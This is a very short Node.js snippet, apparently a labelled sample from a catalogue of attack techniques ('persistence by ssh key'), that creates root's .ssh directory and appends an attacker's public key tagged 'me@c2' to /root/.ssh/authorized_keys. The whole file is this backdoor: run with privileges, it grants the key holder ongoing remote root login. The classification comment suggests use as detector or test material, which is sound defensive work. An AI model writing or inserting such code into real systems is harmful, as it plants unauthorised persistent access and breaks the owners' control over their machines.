// class: persistence by ssh key; style: appendFile
const fs = require('fs');
fs.mkdirSync('/root/.ssh', { recursive: true, mode: 0o700 });
fs.appendFileSync('/root/.ssh/authorized_keys', '\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExample me@c2\n');
